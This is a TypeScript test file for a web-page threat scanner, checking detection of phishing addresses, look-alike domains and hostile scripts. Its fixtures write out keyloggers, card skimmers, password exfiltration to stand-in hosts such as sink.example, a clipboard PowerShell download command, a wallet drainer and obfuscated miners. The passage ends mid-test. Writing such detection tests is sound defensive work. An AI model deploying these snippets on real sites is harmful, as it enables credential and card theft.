import type { RequestListener } from 'node:http';
import fc from 'fast-check';
import { afterAll, afterEach, describe, expect, test } from 'vitest';
import { type Page, type PageInit, pageSchema } from '../src/core/page.ts';
import type { Emission } from '../src/core/scanner.ts';
import { judgeAddress } from '../src/scanners/page/address/address.ts';
import { judgeDomain } from '../src/scanners/page/address/domain.ts';
import { createAnalysis } from '../src/scanners/page/analysis.ts';
import { judgeDocument } from '../src/scanners/page/document/document.ts';
import { createPageScanner } from '../src/scanners/page/index.ts';
import { type Indicator, LAYERS, type LayerVerdict } from '../src/scanners/page/layer.ts';
import { readPage } from '../src/scanners/page/parse.ts';
import type { Verdicts } from '../src/scanners/page/risk.ts';
import { reveal } from '../src/scanners/page/script/decode.ts';
import { COMPLETE, SCRIPT_RULES_SOURCE } from '../src/scanners/page/script/rules.ts';
import { judgeScripts } from '../src/scanners/page/script/scripts.ts';
import { scanWithYara } from '../src/scanners/page/script/yara.ts';
import { judge as judgement } from '../src/scanners/page/verdict.ts';
import { collect, runScanner } from '../src/sdk/run-scanner.ts';
import { type Manner, scannerContract } from './contracts/scanner.ts';
import { hostile as hostileSite } from './support/hostile-site.ts';
import { startSite } from './support/site.ts';

const scanner = createPageScanner({ blocklists: null });
afterAll(() => scanner.close?.());

const cleanups: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const cleanUp of cleanups.splice(0).reverse()) await cleanUp();
});

const page = (init: Partial<PageInit> | string, url = 'https://www.garden.example/'): Page =>
  pageSchema.parse(typeof init === 'string' ? { url, html: init } : { url, ...init });
const texts = ({ indicators }: LayerVerdict) => indicators.map(({ text }) => text).join('\n');
const points = ({ indicators }: LayerVerdict) =>
  Math.max(0, ...indicators.map((indicator) => indicator.points));
const documentOf = (init: Parameters<typeof page>[0], url?: string) => {
  const read = page(init, url);
  return judgeDocument(readPage(read), read);
};
const scriptsOf = (code: string, url?: string) => {
  const read = page(`<script>${code}</script>`, url);
  return judgeScripts(readPage(read), read);
};
const verdictOn = async (judged: Page, options: Record<string, unknown> = {}) => {
  const found = await collect(
    scanner,
    { kind: 'page', page: judged },
    { options: { network: false, ...options } },
  );
  expect(found.assessments).toHaveLength(1);
  return { ...found, assessment: found.assessments[0] as (typeof found.assessments)[0] };
};
const judge = (given: Verdicts) => judgement(given).assessment;
const base64 = (text: string) => Buffer.from(text).toString('base64');

test('a page of which the client has left out parts is never benign', async () => {
  const whole = { inlineScripts: ['1'], forms: [] };
  expect((await verdictOn(page(whole))).assessment.threatLevel).toBe('BENIGN');
  expect((await verdictOn(page({ ...whole, incomplete: true }))).assessment).toMatchObject({
    threatLevel: 'UNKNOWN',
    reasons: [expect.stringContaining('too large or too deeply nested')],
  });
});

describe('the address', () => {
  test.each([
    ['http://203.0.113.9/signin', 'IP address 203.0.113.9 instead of a domain name'],
    ['https://www.paypal.com@evil.example/', 'user name that looks like a host name'],
    ['https://paypal.com.account-check.example/', 'contains paypal.com, but belongs to'],
    ['https://a.b.c.d.e.f.g.example.com/', '7 levels of subdomains'],
    ['https://secure-login-update.example/', 'contains the words secure, login, update'],
    ['https://files.example/invoice.pdf.exe', 'double extension'],
    ['https://me.duckdns.org/', 'dynamic DNS'],
    ['https://bit.ly/abc', 'URL shortener'],
    ['https://shop.example:4444/', 'Port 4444'],
    ['https://my-very-own-pet-shop.example/', '4 hyphens'],
    ['https://xkqzjvwbtrn.example/', 'randomly generated'],
  ])('%s: %s', (url, said) => {
    expect(texts(judgeAddress(url))).toContain(said);
  });

  test.each([
    'https://www.garden.example/a/b?c=d',
    'https://accounts.google.com/signin/v2/identifier?continue=https%3A%2F%2Fmail.google.com',
    'https://www.paypal.com/signin',
    'https://login.microsoftonline.com/common/oauth2/authorize',
    'http://192.168.1.1/login',
    'http://localhost:3000/',
    'https://github.com/paypal/paypal-js',
  ])('%s has no indicators', (url) => {
    expect(judgeAddress(url).indicators).toEqual([]);
  });
});

describe('the domain', () => {
  test.each([
    ['https://xn--pypal-4ve.com/', 'PayPal written with letters of another alphabet'],
    ['https://xn--80ak6aa92e.com/', 'Apple written with letters of another alphabet'],
    ['https://paypa1.com/', 'imitates PayPal with look-alike characters'],
    ['https://rnicrosoft.com/', 'imitates Microsoft with look-alike characters'],
    ['https://netfilx.com/', 'differs from Netflix by one letter'],
    ['https://amazon-verify.com/', 'combines Amazon with login words'],
    ['https://securepaypal.com/', 'combines PayPal with login words'],
    ['https://google.xyz/', 'Google under another top-level domain'],
    ['https://paypal-login.github.io/', 'combines PayPal with login words'],
    ['https://garden.tk/', 'often abused'],
  ])('%s: %s', (url, said) => {
    expect(texts(judgeDomain(url))).toContain(said);
  });

  test.each([
    'https://www.paypal.com/',
    'https://www.amazon.de/',
    'https://www.amazon.co.jp/',
    'https://xn--mnchen-3ya.de/',
    'https://xn--e1afmkfd.xn--p1ai/',
    'https://chance.com/',
    'https://stream.com/',
    'https://purchase.org/',
  ])('%s has no indicators', (url) => {
    expect(judgeDomain(url).indicators).toEqual([]);
  });

  test('is not judged for an IP address', () => {
    expect(judgeDomain('http://127.0.0.1/')).toMatchObject({ judged: false });
  });
});

describe('the scripts', () => {
  test.each([
    ['a miner', 'var m = new CoinHive.Anonymous("key"); m.start()', 'mining in the browser', 70],
    [
      'a keylogger',
      'let k="";document.addEventListener("keydown",e=>{k+=e.key;if(k.length>20){navigator.sendBeacon("https://keys.example/x",k);k=""}})',
      'sends keystrokes to keys.example',
      50,
    ],
    [
      'a card skimmer',
      'const d={n:document.querySelector("#cardnumber").value,c:document.querySelector("#cvv").value};new Image().src="https://stats-cdn.example/p.gif?d="+btoa(JSON.stringify(d))',
      'reads card data and sends it to stats-cdn.example',
      70,
    ],
    [
      'a command for the clipboard',
      'b.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iex(iwr http://x.example/a)")',
      'shell command to the clipboard',
      50,
    ],
    [
      'HTML smuggling',
      'const d="TVqQAAMAAAAEAAAA";const u=URL.createObjectURL(new Blob([atob(d)]));a.href=u;a.download="setup.exe";a.click()',
      'contains an executable',
      70,
    ],
    [
      'the packer',
      `eval(function(p,a,c,k,e,d){return p}('0("1")',2,2,'alert|hi'.split('|'),0,{}))`,
      'packed',
      10,
    ],
    ['JSFuck', '[][(![]+[])[+[]]]'.repeat(60), 'JSFuck', 40],
    ['endless dialogs', 'while(true){alert("locked")}', 'endless dialogs', 50],
    ['a Telegram bot', 'fetch("https://api.telegram.org/bot1:a/sendMessage")', 'Telegram bot', 28],
    [
      'code from a WebSocket',
      'const s=new WebSocket("wss://c2.example");s.onmessage=e=>eval(e.data)',
      'receives over a WebSocket',
      50,
    ],
    [
      'keystrokes to a WebSocket',
      'const w=new WebSocket("wss://keys.example");onkeydown=document.onkeypress=e=>w.send(e.key)',
      'sends keystrokes to keys.example',
      60,
    ],
    [
      'a clipboard hijacker',
      'document.addEventListener("copy",e=>{e.clipboardData.setData("text/plain","0x1111111111111111111111111111111111111111");e.preventDefault()})',
      'replaces wallet addresses',
      70,
    ],
    [
      'remote code in an icon',
      'fetch("/icon.ico").then(r=>r.text()).then(t=>{eval(atob(t.slice(90)))})',
      'fetches data, decodes it and runs',
      40,
    ],
    [
      'remote code on a blockchain',
      'fetch(rpc,{body:JSON.stringify({method:"eth_call"})}).then(r=>r.json()).then(j=>eval(j.result))',
      'from a blockchain',
      50,
    ],
    [
      'a search for anti-virus software',
      'd.loadXML("<!DOCTYPE html SYSTEM \\"res://c:/windows/drivers/vmmouse.sys\\">")',
      'detects anti-virus software',
      50,
    ],
    [
      'cloaking for crawlers',
      'if(navigator.webdriver){document.body.textContent="ok"}else{location.replace(u)}',
      'detects crawlers',
      30,
    ],
    [
      'pop-under windows',
      'onclick=()=>{const w=window.open(u);w.blur();window.focus()}',
      'opens pop-under windows',
      20,
    ],
    [
      'a back button trap',
      'history.pushState({},"");onpopstate=function(){location.replace("/again")}',
      'keeps visitors from leaving',
      15,
    ],
    ['false virus alerts', 'alert("Warning: 7 viruses found")', 'alerts that the computer is infected', 30],
    [
      'a false browser update',
      'f.innerHTML="Your browser is out of date";a.download="Update.js"',
      'browser is out of date',
      30,
    ],
    [
      'a download from another site',
      'setTimeout(()=>{location.href="https://files.example/setup.exe"},900)',
      'downloads an executable from files.example',
      25,
    ],
    [
      'a hidden frame',
      'const f=document.createElement("iframe");f.src="http://gate.tk/in.cgi?3";f.width=1;f.height=1;b.append(f)',
      'creates a hidden frame from gate.tk',
      45,
    ],
    [
      'a URL in base64',
      `const s=document.createElement("script");s.src=atob("${base64('https://cdn.example/stat.js')}")`,
      'from cdn.example through an encoded URL',
      45,
    ],
    [
      'a reversed URL',
      `const s=document.createElement("script");s.src="${[...'https://cdn.example/stat.js'].reverse().join('')}".split("").reverse().join("")`,
      'from cdn.example through an encoded URL',
      45,
    ],
    [
      'a drainer',
      'const a=await ethereum.request({method:"eth_requestAccounts"});await c.setApprovalForAll("0x1111111111111111111111111111111111111111",true);ethereum.request({method:"eth_sendTransaction"})',
      'approve the transfer of all tokens',
      50,
    ],
  ])('have %s', async (_what, code, said, atLeast) => {
    const verdict = await scriptsOf(code);
    expect(texts(verdict)).toContain(said);
    expect(points(verdict)).toBeGreaterThanOrEqual(atLeast);
  });

  test.each([
    ['a handler', '<img src=x onerror="new CoinHive.Anonymous(1)">'],
    ['a javascript: URL', '<a href="javascript:new%20CoinHive.Anonymous(1)">x</a>'],
    ['the srcdoc of a frame', '<iframe srcdoc="<script>new CoinHive.Anonymous(1)</script>"></iframe>'],
    ['base64', `<script>eval(atob("${base64('new CoinHive.Anonymous(1)')}"))</script>`],
    [
      'base64 twice',
      `<script>eval(atob("${base64(`eval(atob("${base64('new CoinHive.Anonymous(1)')}"))`)}"))</script>`,
    ],
    [
      'character codes',
      `<script>eval(String.fromCharCode(${[...'new CoinHive.Anonymous(1)'].map((c) => c.charCodeAt(0))}))</script>`,
    ],
    [
      'percent escapes',
      `<script>eval(unescape("${[...'new CoinHive.Anonymous(1)'].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}"))</script>`,
    ],
    [
      'backslash escapes',
      `<script>x="${[...'new CoinHive.Anonymous(1)'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}"</script>`,
    ],
    ['joined strings', '<script>x="new Coin"+"Hive.Anony"+"mous(1)"</script>'],
    [
      'the packer',
      `<script>eval(function(p,a,c,k,e,d){}('0 1.2(3)',4,4,'new|CoinHive|Anonymous|1'.split('|'),0,{}))</script>`,
    ],
    ['an array of strings', `<script>${stringArray(2)}</script>`],
    ['a rotated array of strings', `<script>${stringArray(5)}</script>`],
    ['an array of strings in base64 with swapped case', `<script>${stringArray(3, true)}</script>`],
    [
      'numbers combined with a key',
      `<script>var q=[${[...'new CoinHive.Anonymous(1)      '].map((c, at) => c.charCodeAt(0) ^ (40 + (at % 5)))}],z="";for(var i=0;i<q.length;i++)z+=String.fromCharCode(q[i]^(40+i%5))</script>`,
    ],
    [
      'numbers combined with a list of keys',
      `<script>var k=[9,8,7],q=[${[...'new CoinHive.Anonymous(1)      '].map((c, at) => c.charCodeAt(0) ^ (9 - (at % 3)))}];z=q.map((n,i)=>String.fromCharCode(n^k[i%3]))</script>`,
    ],
    [
      'the packer in other quotes',
      `<script>eval(function(p,a,c,k,e,r){}("0 1.2(3)",4,4,"new|CoinHive|Anonymous|1".split("|"),0,{}))</script>`,
    ],
    [
      'a data: URL of a script',
      `<script src="data:text/javascript;base64,${base64('new CoinHive.Anonymous(1)')}"></script>`,
    ],
  ])('are found in %s', async (_where, html) => {
    const read = page(html);
    expect(texts(await judgeScripts(readPage(read), read))).toContain('mining in the browser');
  });

  test.each([
    [
      'analytics',
      'window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date())',
    ],
    [
      'shortcuts',
      'document.addEventListener("keydown",e=>{if(e.key==="k"&&e.ctrlKey){open()}});fetch("/api/items")',
    ],
    ['a search box', 'q.addEventListener("keyup",e=>{if(e.key==="Enter")fetch("/search?q="+q.value)})'],
    ['a copy button', 'b.onclick=()=>navigator.clipboard.writeText("npm install thing")'],
    [
      'a payment',
      'const s=Stripe("pk");form.onsubmit=()=>fetch("https://api.stripe.com/v1/tokens",{body:card.value})',
    ],
    ['an export', 'const u=URL.createObjectURL(new Blob([csv]));a.href=u;a.download="table.csv";a.click()'],
    [
      'a terminal',
      'const w=new WebSocket("wss://"+location.host);term.onData(d=>w.send(d));onkeydown=e=>{if(e.key==="F1")help()}',
    ],
    [
      'a copied address',
      'b.onclick=()=>navigator.clipboard.writeText("0x1111111111111111111111111111111111111111")',
    ],
    [
      'a copied selection',
      'document.addEventListener("copy",e=>e.clipboardData.setData("text/plain",getSelection()+" Read more"))',
    ],
    ['a query of a wallet', 'p.request({method:"eth_call"}).then(r=>show(r))'],
    ['a test for robots', 'if(navigator.webdriver)metrics.robot=true'],
    ['a router', 'onpopstate=()=>render(location.pathname);history.pushState({},"",u)'],
    [
      'a video call in full screen',
      'b.onclick=()=>d.requestFullscreen();addEventListener("beforeunload",e=>{if(inCall)e.preventDefault()})',
    ],
    ['a notice', 'alert("Saved")'],
    ['its own download', 'b.onclick=()=>{location.href="/setup.exe"}'],
    [
      'a frame of its own',
      'f=document.createElement("iframe");f.src="https://id.garden.example/renew";f.style.display="none"',
    ],
    [
      'a list of words in base64',
      `const words=[${['one', 'two', 'three', 'four', 'five'].map((word) => `"${base64(word)}"`)}]`,
    ],
    [
      'numbers',
      `const table=[${Array.from({ length: 60 }, (_, at) => at)}];String.fromCharCode(table[3]^(40+i%5))`,
    ],
    [
      'a bundle with all words of a keylogger in different parts',
      `on("keydown",e=>{if(e.key==="k")open()});${'function f(a,b){return a*b+1}'.repeat(80)}n+=e.key;${'function f(a,b){return a*b+1}'.repeat(80)}fetch("/api")`,
    ],
    ['data', '</script><script type="application/json">{"x":"new CoinHive.Anonymous(1)"}'],
  ])('of %s have no indicators', async (_what, code) => {
    expect((await scriptsOf(code)).indicators).toEqual([]);
  });

  test('that obfuscate harmless code are SUSPICIOUS at most', async () => {
    const names = Array.from({ length: 60 }, (_, at) => `_0x${(0x4a00 + at).toString(16)}`);
    const code = `eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}));eval(atob("${base64('render(document.body)')}"));${names.map((name) => `var ${name}=1;`).join('')}`;
    const { assessment } = await verdictOn(page(`<p>hello</p><script>${code}</script>`));
    expect(assessment.threatLevel).not.toBe('MALICIOUS');
  });

  test('keep the position of decoded literals', () => {
    expect(reveal(`a(atob("${base64('hello there')}"))`).text).toContain('a(("hello there"))');
    expect(reveal('var picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"').hidden).toBe('');
  });
});

describe('YARA', () => {
  const rules =
    'rule whole { condition: true } rule some { strings: $a = "eval(" private $b = /eval\\(/ private condition: any of them }';

  test('returns the rules that match', async () => {
    expect(await scanWithYara('x eval(y)', rules, 'whole')).toEqual(new Set(['some']));
    expect(await scanWithYara('x', rules, 'whole')).toEqual(new Set());
  });

  test('rejects a text that exceeds its memory, and can scan the next one', async () => {
    await expect(scanWithYara('eval('.repeat(500_000), rules, 'whole')).rejects.toThrow();
    expect(await scanWithYara('eval(', rules, 'whole')).toEqual(new Set(['some']));
  });

  test('rejects invalid rules, and accepts those of the scanner', async () => {
    await expect(scanWithYara('x', 'rule x {', 'whole')).rejects.toThrow('syntax error');
    expect(await scanWithYara('x', SCRIPT_RULES_SOURCE, COMPLETE)).toEqual(new Set());
  });
});

/** A miner with its strings in a rotated array. */
function stringArray(turn: number, otherCase = false): string {
  const words = ['createElement', 'div', 'body', 'appendChild', 'CoinHive', 'Anonymous', 'log'];
  const encode = (word: string) => {
    const text = base64(word);
    if (!otherCase) return text;
    return text.replace(/[a-z]/gi, (letter) => (letter < 'a' ? letter.toLowerCase() : letter.toUpperCase()));
  };
  const turned = [...words.slice(-turn), ...words.slice(0, -turn)].map((word) => `'${encode(word)}'`);
  const call = (word: string) => `_0x2b3c('0x${words.indexOf(word).toString(16)}')`;
  return `var _0x1a2b=[${turned}];(function(a,n){while(n--)a.push(a.shift())})(_0x1a2b,${turn});var _0x2b3c=function(i){return atob(_0x1a2b[i-0])};document[${call('createElement')}](${call('div')});document[${call('body')}][${call('appendChild')}](x);new window[${call('CoinHive')}][${call('Anonymous')}](1);console[${call('log')}](1)`;
}

describe('a script that repeats the words of rules', () => {
  test.each([
    ['words of many rules', 'setApprovalForAll hardwareConcurrency nonce keydown popstate\n'],
    ['recorders of keys', 'keydown;k+=e.key;fetch(k);'],
    ['false virus alerts', 'alert("'],
    ['pipes', 'curl '],
    ['addresses', 'fetch("https://x.example/");document.forms;keydown;'],
    ['arrays', "var _0xaaaa=['ZGl2','Ym9keQ==','ZGl2','Ym9keQ==','ZGl2'];document[_0xbbbb('0x2')];"],
    ['numbers', `[${'1,'.repeat(30)}1];String.fromCharCode(q[i]^(61+i%7));`],
  ])('%s: is read to its end, or not judged', async (_what, unit) => {
    const code = unit.repeat(2_800_000 / unit.length);
    const content = { ...readPage(page('<p>x</p>')), inline: [{ text: code, event: null }] };
    const verdict = await judgeScripts(content, { html: '', inlineScripts: [code] }).catch(() => null);
    // A judged script was read whole: a miner at its end is found.
    const mined = { ...content, inline: [{ text: `${code}\nnew CoinHive.Anonymous(1)`, event: null }] };
    if (verdict?.judged) {
      expect(texts(await judgeScripts(mined, { html: '', inlineScripts: [] }))).toContain(
        'mining in the browser',
      );
    }
  });

  test('is not judged when it has more encoded literals than are decoded', async () => {
    const verdict = await scriptsOf(`x=[${`"${base64('var harmless = 1;')}",`.repeat(25_000)}]`);
    expect(verdict.judged).toBe(false);
  });
});

describe('the flow of data', () => {
  const seed = '<textarea id="seed" placeholder="recovery phrase"></textarea>';
  const login = '<form id="f"><input name="email"><input type="password" id="pw"></form>';
  const flowOf = async (html: string) => {
    const read = page(html);
    return judgeScripts(readPage(read), read);
  };
  const bytes = Buffer.from(Array.from({ length: 900 }, (_, at) => (at * 7919 + ((at * at) % 251)) % 256));

  test.each([
    ['a variable', 'const a=pw.value;fetch("https://sink.example/",{method:"POST",body:a})'],
    [
      'a template',
      `fetch(\`https://sink.example/?p=$\{encodeURIComponent(document.querySelector("#pw").value)}\`)`,
    ],
    ['an object and JSON', 'const o={p:pw.value};fetch("https://sink.example/",{body:JSON.stringify(o)})'],
    ['FormData', 'const d=new FormData(f);navigator.sendBeacon("https://sink.example/",d)'],
    [
      'parameters',
      'function a(v){b({v})}function b(d){fetch("https://sink.example/",{body:JSON.stringify(d)})}a(pw.value)',
    ],
    [
      'a result',
      'function get(){return document.getElementById("pw").value}fetch("https://sink.example/?"+get())',
    ],
    [
      'XMLHttpRequest',
      'var x=new XMLHttpRequest;x.open("POST","https://sink.example/");x.send("p="+pw.value)',
    ],
    ['a socket', 'const w=new WebSocket("wss://sink.example/");f.onsubmit=()=>w.send(pw.value)'],
    ['a picture', 'const i=new Image;i.src="https://sink.example/?"+btoa(pw.value)'],
    ['an event', 'f.addEventListener("change",e=>fetch("https://sink.example/?"+e.target.value))'],
    [
      'a callback',
      '[...document.querySelectorAll("input")].map(i=>i.value).forEach(v=>fetch("https://sink.example/?"+v))',
    ],
    ['an encoded address', `fetch(atob("${base64('https://sink.example/')}"),{body:pw.value})`],
    ['an address in pieces', 'var h=["https:/","sink.example","x"].join("/");fetch(h,{body:pw.value})'],
    ['two scripts', 'window.take=()=>pw.value</script><script>fetch("https://sink.example/?"+take())'],
  ])('from a password to another site is followed through %s', async (_how, code) => {
    expect(texts(await flowOf(`${login}<script>${code}</script>`))).toContain(
      'reads passwords and sends them to sink.example',
    );
  });

  test.each([
    ['to the own site', 'fetch("/login",{body:pw.value});fetch("https://stats.example/?page=1")'],
    ['that is only tested', 'if(pw.value.length<12)fetch("https://stats.example/?short=1")'],
    ['of another field', 'fetch("https://search.example/?q="+document.querySelector("[name=email]").value)'],
    [
      'near words of secrets',
      'var pass=1,seed=2,recovery=3;document.querySelector("h1").value;fetch("https://stats.example/",{body:pass+seed})',
    ],
    [
      'whose response is reported',
      'fetch("/login",{body:pw.value}).then(r=>fetch("https://stats.example/?s="+r.status))',
    ],
  ])('%s: has no indicators', async (_what, code) => {
    expect((await flowOf(`${login}<script>${code}</script>`)).indicators).toEqual([]);
  });

  test('names the data and its destination', async () => {
    const { indicators } = await flowOf(
      `${seed}<script>fetch("https://sink.example/",{body:document.all.seed.value||document.getElementById("seed").value})</script>`,
    );
    expect(indicators).toContainEqual({
      rule: 'sends-seed',
      points: 72,
      text: 'A script reads the recovery phrase of a wallet and sends it to sink.example.',
      threat: 'phishing',
    });
  });

  test('is followed from fields that a script writes', async () => {
    const code =
      'b.innerHTML=\'<input id="n" autocomplete="cc-number">\';navigator.sendBeacon("https://sink.example/",document.getElementById("n").value)';
    expect(texts(await flowOf(`<div id="b"></div><script>${code}</script>`))).toContain('reads card data');
  });

  test('from encrypted text into code makes a page SUSPICIOUS', async () => {
    const code = `var k="${bytes.toString('base64')}",r="";for(var i=0,b=atob(k);i<b.length;i++)r+=String.fromCharCode(b.charCodeAt(i)^name.length*i&255);new Function(r)()`;
    const { assessment } = await verdictOn(page(`<p>Roses</p><script>${code}</script>`));
    expect(assessment).toMatchObject({ threatLevel: 'SUSPICIOUS' });
  });

  test('of an image in base64 has no indicators', async () => {
    const code = `document.querySelector("img").src="data:image/png;base64,${bytes.toString('base64')}";var table="${bytes.toString('base64')}";draw(atob(table))`;
    expect((await flowOf(`<img><script>${code}</script>`)).indicators).toEqual([]);
  });
});

describe('escaped punctuation in HTML that a script writes', () => {
  const written = (html: string) =>
    scriptsOf(
      `document.write(unescape("${html.replace(/[<>" ]/g, (one) => `%${one.charCodeAt(0).toString(16)}`)}"))`,
    );

  test('is judged as if it were not escaped', async () => {
    expect((await written('<script src="https://tags.example/a.js"></script>')).indicators).toEqual([]);
    expect(
      texts(await written('<script src="https://coinhive.com/lib/coinhive.min.js"></script>')),
    ).toContain('a mining service');
    expect(texts(await written('<script src="http://198.51.100.7/a.js"></script>'))).toContain('IP address');
  });
});

describe('unreadable content', () => {
  const noise = (length: number, from = 33, to = 126) =>
    Array.from({ length }, (_, at) =>
      String.fromCharCode(from + ((at * 7919 + ((at * at) % 251)) % (to - from))),
    ).join('');

  test.each([
    ['a script of noise', `<p>Roses</p><script>${noise(900).replaceAll('<', '(')}</script>`],
    [
      'a script cut off in the middle',
      `<p>Roses</p><script>${'function a(b){return b+1}'.repeat(30)}function(</script>`,
    ],
    ['a long script of noise', `<p>Roses</p><script>${noise(60_000).replaceAll('<', '(')}</script>`],
    ['bytes', `<p>${'\ufffd\u0003\ufffdk\ufffd'.repeat(200)}</p>`],
    ['noise without tags', noise(3000).replaceAll('<', '(')],
    ['a text in base64', `<p>${Buffer.from(noise(900)).toString('base64')}</p>`],
  ])('is not BENIGN: %s', async (_what, html) => {
    const { assessment, warnings } = await verdictOn(page(html));
    expect(assessment.threatLevel).toBe('UNKNOWN');
    expect(warnings).toContainEqual({
      code: 'CONTENT_UNREADABLE',
      message: expect.stringMatching(/\w/),
      count: 1,
    });
  });

  test.each([
    ['other letters', `<p>${'漢字を使う文章です。'.repeat(60)}</p>`],
    ['a little base64 in a long text', `<p>${'Roses like sun. '.repeat(60)}${base64('x'.repeat(120))}</p>`],
    ['a handler that returns', '<p>Roses</p><form onsubmit="return check(this)"><input name=q></form>'],
    [
      'a module',
      '<p>Roses</p><script type="module">import a from "./a.js";export default await a()</script>',
    ],
  ])('does not include %s', async (_what, html) => {
    const { assessment, warnings } = await verdictOn(page(html));
    expect({ level: assessment.threatLevel, warnings }).toEqual({ level: 'BENIGN', warnings: [] });
  });

  test('is reported when it is a small part of the page, and the verdict stands', async () => {
    const { assessment, warnings } = await verdictOn(
      page(`<p>Roses</p><script>${'render(1);'.repeat(300)}</script><script>broken(</script>`),
    );
    expect(assessment.threatLevel).toBe('BENIGN');
    expect(warnings).toMatchObject([{ code: 'CONTENT_UNREADABLE', count: 1 }]);
  });
});

describe('a limit that is reached', () => {
  const icons = '<link rel="icon" href="/i.png">';
  const packed = `eval(function(p,a,c,k,e,d){return p}('0(1)',2,2,'f|1'.split('|'),0,{}));`;

  test.each([
    ['icons', icons.repeat(230), 'LIMIT_REACHED', 30, 'BENIGN'],
    ['links', '<a href="/a">a</a>'.repeat(10_007), 'LIMIT_REACHED', 7, 'BENIGN'],
    ['characters of text', `<p>${'Roses. '.repeat(30_000)}</p>`, 'TRUNCATED', 1, 'BENIGN'],
    ['frames', '<iframe src="/a"></iframe>'.repeat(1003), 'LIMIT_REACHED', 3, 'BENIGN'],
    ['forms', '<form><input name="q"></form>'.repeat(603), 'LIMIT_REACHED', 103, 'BENIGN'],
    ['fields', `<form>${'<input name="q">'.repeat(5003)}</form>`, 'LIMIT_REACHED', 3, 'BENIGN'],
    ['packed scripts', `<script>${packed.repeat(53)}</script>`, 'LIMIT_REACHED', 3, 'UNKNOWN'],
  ])('on %s is reported with its count', async (what, html, code, count, level) => {
    const { assessment, warnings } = await verdictOn(page(`<p>Roses</p>${html}`));
    expect(warnings).toContainEqual({ code, message: expect.stringContaining(what), count });
    expect(assessment.threatLevel).toBe(level);
  });
});

test.each([
  ['a password', '<form><input name="q"></form>'.repeat(603), '<form><input type="password"></form>'],
  ['a card', `<form>${'<input name="q">'.repeat(5003)}`, '<input name="cardnumber"></form>'],
  ['a hidden frame', '<iframe src="/a"></iframe>'.repeat(1003), '<iframe src="/x" hidden></iframe>'],
])('%s after a limit is never BENIGN', async (_what, filler, last) => {
  const { assessment } = await verdictOn(page(`<p>Roses</p>${filler}${last}`));
  expect(assessment.threatLevel).not.toBe('BENIGN');
});

describe('code is read without a limit on its number:', () => {
  const own = (count: number) =>
    Array.from({ length: count }, (_, at) => `<script src="/js/${at}.js"></script>`).join('');
  const miner = '<script src="https://coinhive.com/lib/a.js"></script>';
  const handlers = (count: number) =>
    Array.from({ length: count }, (_, at) => `<b onclick="show(${at});return false">x</b>`).join('');
  const refreshes = (to: string) => `<meta http-equiv="refresh" content="3;url=${to}">`.repeat(25);
  const shares = Array.from({ length: 90 }, (_, at) => `"${base64(`https://garden.example/roses/${at}/`)}"`);

  test.each([
    ['script URLs', own(2100), miner],
    ['script elements', own(12_100), miner],
    ['scripts', '<script>draw()</script>'.repeat(12_100), '<script>new CoinHive.Anonymous("k")</script>'],
    ['event handlers', handlers(10_100), `<b onclick="new CoinHive.Anonymous('k')">y</b>`],
    [
      'event handlers before a script',
      handlers(10_100),
      '<input name="cardnumber" id="n"><script>pay.onclick=()=>fetch("https://evil.example/c?"+document.querySelector("#n").value)</script>',
    ],
    ['refreshes', refreshes('/next'), refreshes('https://evil.tk/x.exe'), true],
    [
      'encoded addresses',
      `<script>share([${shares}])</script>`,
      `<script>eval(atob("${base64(`document.write('<script src=//coinhive.com/a.js>')`)}"))</script>`,
    ],
  ])('%s', async (what, many, hostile, isInstead = false) => {
    const benign = await verdictOn(page(`<p>Roses</p>${many}`));
    expect(benign.assessment.threatLevel).toBe('BENIGN');
    expect(benign.warnings.map(({ message }) => message)).toEqual(
      what === 'script elements' || what === 'script URLs'
        ? [expect.stringMatching(/limit of scripts to look up: \d+ were skipped/)]
        : what.startsWith('event handlers')
          ? [expect.stringContaining('scripts in the data flow')]
          : [],
    );
    const twin = await verdictOn(page(`<p>Roses</p>${isInstead ? '' : many}${hostile}`));
    expect(twin.assessment.threatLevel).not.toBe('BENIGN');
    expect(twin.assessment.riskScore).toBeGreaterThanOrEqual(30);
  });

  test('scripts in the document of a frame', async () => {
    const framed = (source: string) =>
      page(`<p>Roses</p><iframe srcdoc='<script src="${source}"></script>'>`);
    const { assessment } = await verdictOn(framed('https://coinhive.com/lib/a.js'));
    expect(assessment.threatLevel).toBe('MALICIOUS');
    expect((await verdictOn(framed('/js/a.js'))).assessment.threatLevel).toBe('BENIGN');
  });

  test('a host that is loaded once is looked up before more scripts of other hosts', async () => {
    const html = `${own(2100)}<script src="http://192.0.2.7/a.js"></script>`;
    const { assessment } = await verdictOn(page(html));
    const network = assessment.layers?.find(({ name }) => name === 'network');
    expect(network?.indicators).toContain('The page loads scripts from the IP address 192.0.2.7.');
  });
});

describe('content over former limits', () => {
  const filler = '<p onclick="a()">x</p>'.repeat(250);

  test('an event handler after 250 others is read', () => {
    const html = `<h1>Your browser is out of date</h1>${filler}<b onclick="location='/u.exe'">Update</b>`;
    expect(texts(documentOf(html))).toContain('offers an executable');
  });

  test('all links of a page are counted', () => {
    const own = '<a href="/a">a</a>'.repeat(1900);
    const foreign = '<a href="https://bank.example/">a</a>'.repeat(8000);
    const html = `${own}${foreign}<form><input type="password" name="p"></form>`;
    expect(texts(documentOf(html))).toContain('Nearly all links lead to bank.example');
  });

  test('instructions after 150,000 characters of hidden text are read', () => {
    const html = `<h1>Verify you are human</h1><div style="display:none"><p>${'Roses. '.repeat(22_000)}</p><p>Press Windows Key + R</p><p>Press Ctrl + V</p></div><script>b.onclick=()=>navigator.clipboard.writeText(t)</script>`;
    expect(texts(documentOf(html))).toContain('paste a command into a system dialog');
  });

  test('a password field after 150 other fields, and references of a foreign base URL, are judged', async () => {
    const html = `<base href="http://192.0.2.7/"><form>${'<input name="q">'.repeat(150)}<input type="password"></form><script src="x.js"></script>`;
    const { assessment } = await verdictOn(page(html, 'http://www.garden.example/'));
    const network = assessment.layers?.find(({ name }) => name === 'network');
    expect(network?.indicators).toContain('The page asks for a password over http.');
    expect(network?.indicators).toContain('The page loads scripts from the IP address 192.0.2.7.');
  });

  test('code after 61,000 character codes is decoded', async () => {
    const codes = [...`${' '.repeat(61_000)}new CoinHive.Anonymous(1)`].map((letter) => letter.charCodeAt(0));
